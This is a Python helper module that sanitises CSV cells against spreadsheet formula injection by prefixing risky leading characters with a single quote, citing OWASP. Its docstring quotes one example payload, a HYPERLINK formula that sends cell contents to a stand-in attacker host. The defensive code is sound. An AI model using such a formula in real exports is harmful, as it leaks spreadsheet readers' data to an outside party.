"""Cells safe to open in a spreadsheet, for every CSV Moot writes.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is read as a formula by Excel, LibreOffice and Google Sheets: a commitment's
text ``=HYPERLINK("https://evil.example/?"&A1, "Click")`` would run in the
reader's spreadsheet. As OWASP advises (CSV Injection), such a cell is
prefixed with a single quote, which the spreadsheet shows as text.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: object) -> str:
    """``value`` as a CSV cell that no spreadsheet runs as a formula."""
    text = "" if value is None else str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text
